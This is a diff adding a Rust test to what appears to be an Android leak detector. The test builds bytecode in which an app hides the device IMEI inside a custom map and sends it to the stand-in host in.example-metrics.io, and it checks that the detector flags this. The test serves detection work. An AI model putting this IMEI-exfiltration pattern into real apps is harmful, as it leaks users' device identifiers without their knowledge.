@@ -379,6 +379,41 @@ fn what_an_app_asks_a_jar_for_and_what_it_reads_do_not_meet_by_themselves() {
     assert_eq!(titles(&report), [""; 0]);
 }
 
+#[test]
+fn a_map_of_a_makers_own_holds_what_is_put_into_it_by_another_name() {
+    let map = "Lacme/util/EasyMap;";
+    let put = "(Ljava/lang/Object;Ljava/lang/Object;)Lacme/util/EasyMap;";
+    let report = |kept: u8| {
+        let mut jar = jar();
+        jar.class(map)
+            .superclass("Ljava/util/HashMap;")
+            .virtual_method("easyPut", put, 3, |m| {
+                m.invoke_virtual(
+                    map,
+                    "put",
+                    "(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;",
+                    &[0, 1, 2],
+                )
+                .return_object(0);
+            });
+        build(&mut jar, |m| {
+            imei(m)
+                .move_object(5, 0)
+                .const_string(4, "hello")
+                .new_instance(1, map)
+                .invoke_direct(map, "<init>", "()V", &[1])
+                .const_string(2, "k")
+                // What the call gives back is not used: the map itself is filled.
+                .invoke_virtual(map, "easyPut", put, &[1, 2, kept])
+                .invoke_virtual(map, "toString", "()Ljava/lang/String;", &[1])
+                .move_result_object(0);
+            send(m, "https://in.example-metrics.io/v1?d=", 0);
+        })
+    };
+    assert_eq!(titles(&report(5)), ["sends the IMEI to in.example-metrics.io"]);
+    assert_eq!(titles(&report(4)), [""; 0]);
+}
+
 /// Puts register 0 into the preferences, under a key, and commits.
 fn keep(m: &mut Asm, key: &str) {
     let editor = "Landroid/content/SharedPreferences$Editor;";
